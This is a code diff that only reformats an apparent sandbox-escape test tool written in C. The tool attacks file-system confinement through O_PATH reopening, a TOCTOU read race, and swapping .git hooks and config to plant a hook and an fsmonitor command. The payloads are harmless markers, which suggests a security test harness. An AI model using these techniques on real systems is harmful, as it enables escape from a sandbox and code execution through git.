@@ -50,7 +50,8 @@ static long rsys(long n, long a1, long a2, long a3, long a4, long a5)
 	return r < 0 ? -errno : r;
 }
 #endif
-#define S(n, a, b, c, d, e) rsys((n), (long)(a), (long)(b), (long)(c), (long)(d), (long)(e))
+#define S(n, a, b, c, d, e) \
+	rsys((n), (long)(a), (long)(b), (long)(c), (long)(d), (long)(e))
 
 static const char payload[] = "sbx-attack-payload\n";
 
@@ -87,8 +88,9 @@ static long op_reopen(const char *path, const char *mode)
 {
 	char p[64];
 	long fd, fd2;
-	int fl = mode[0] == 'r' ? O_RDONLY : mode[0] == 'a' ?
-		 O_WRONLY | O_APPEND : O_RDWR;
+	int fl = mode[0] == 'r'	  ? O_RDONLY
+		 : mode[0] == 'a' ? O_WRONLY | O_APPEND
+				  : O_RDWR;
 
 	fd = xopen(path, O_PATH, 0);
 	if (fd < 0)
@@ -165,7 +167,8 @@ static long op_toctou(const char *file, const char *target, long n)
 	{
 		long fd = xopen(target, O_RDONLY, 0);
 		char buf[65536];
-		long r = fd >= 0 ? S(SYS_read, fd, buf, sizeof(buf) - 1, 0, 0) : 0;
+		long r = fd >= 0 ? S(SYS_read, fd, buf, sizeof(buf) - 1, 0, 0)
+				 : 0;
 
 		if (r > 0) {
 			buf[r] = 0;
@@ -184,9 +187,12 @@ static void step(const char *what, long r)
 
 static long op_gitswap(const char *repo)
 {
-	static const char *const items[] = { "objects", "refs", "HEAD",
-		"description", "info", "logs", "index", "packed-refs", NULL };
-	static const char cfg[] = "[core]\n\trepositoryformatversion = 0\n"
+	static const char *const items[] = {
+		"objects", "refs",  "HEAD",	   "description", "info",
+		"logs",	   "index", "packed-refs", NULL
+	};
+	static const char cfg[] =
+		"[core]\n\trepositoryformatversion = 0\n"
 		"\thooksPath = .git/evilhooks\n\tfsmonitor = touch /tmp/sbx-fsmon\n";
 	static const char hook[] = "#!/bin/sh\necho sbx-attack-hook-ran\n";
 	char a[4096], b[4096];
@@ -199,27 +205,31 @@ static long op_gitswap(const char *repo)
 	step("rename .git g", r);
 	if (r < 0) {
 		/* plan B: replace hooks/ or config inside .git directly */
-		r = S(SYS_renameat2, AT_FDCWD, ".git/hooks", AT_FDCWD, ".git/oldhooks", 0);
+		r = S(SYS_renameat2, AT_FDCWD, ".git/hooks", AT_FDCWD,
+		      ".git/oldhooks", 0);
 		step("rename .git/hooks", r);
 		r = S(SYS_mkdirat, AT_FDCWD, ".git/hooks2", 0755, 0, 0);
 		step("mkdir .git/hooks2", r);
-		fd = xopen(".git/hooks2/pre-commit", O_WRONLY | O_CREAT | O_TRUNC, 0755);
+		fd = xopen(".git/hooks2/pre-commit",
+			   O_WRONLY | O_CREAT | O_TRUNC, 0755);
 		if (fd >= 0) {
 			S(SYS_write, fd, hook, sizeof(hook) - 1, 0, 0);
 			S(SYS_close, fd, 0, 0, 0, 0);
 		}
-		r = S(SYS_renameat2, AT_FDCWD, ".git/hooks2", AT_FDCWD, ".git/hooks",
-		      2 /* RENAME_EXCHANGE */);
+		r = S(SYS_renameat2, AT_FDCWD, ".git/hooks2", AT_FDCWD,
+		      ".git/hooks", 2 /* RENAME_EXCHANGE */);
 		step("exchange hooks2 hooks", r);
-		r = S(SYS_renameat2, AT_FDCWD, ".git/config", AT_FDCWD, ".git/config.old", 0);
+		r = S(SYS_renameat2, AT_FDCWD, ".git/config", AT_FDCWD,
+		      ".git/config.old", 0);
 		step("rename .git/config", r);
-		fd = xopen(".git/config.new", O_WRONLY | O_CREAT | O_TRUNC, 0644);
+		fd = xopen(".git/config.new", O_WRONLY | O_CREAT | O_TRUNC,
+			   0644);
 		if (fd >= 0) {
 			S(SYS_write, fd, cfg, sizeof(cfg) - 1, 0, 0);
 			S(SYS_close, fd, 0, 0, 0, 0);
 		}
-		r = S(SYS_renameat2, AT_FDCWD, ".git/config.new", AT_FDCWD, ".git/config",
-		      2 /* RENAME_EXCHANGE */);
+		r = S(SYS_renameat2, AT_FDCWD, ".git/config.new", AT_FDCWD,
+		      ".git/config", 2 /* RENAME_EXCHANGE */);
 		step("exchange config", r);
 		r = S(SYS_unlinkat, AT_FDCWD, ".git/config", 0, 0, 0);
 		step("unlink .git/config", r);
@@ -265,7 +275,8 @@ int main(int argc, char **argv)
 {
 	setvbuf(stdout, NULL, _IOLBF, 0);
 	if (argc < 2) {
-		fprintf(stderr, "usage: atk_fs reopen|fchdir|toctou|gitswap|tmpfile ...\n");
+		fprintf(stderr,
+			"usage: atk_fs reopen|fchdir|toctou|gitswap|tmpfile ...\n");
 		return 2;
 	}
 	if (!strcmp(argv[1], "reopen") && argc >= 4)
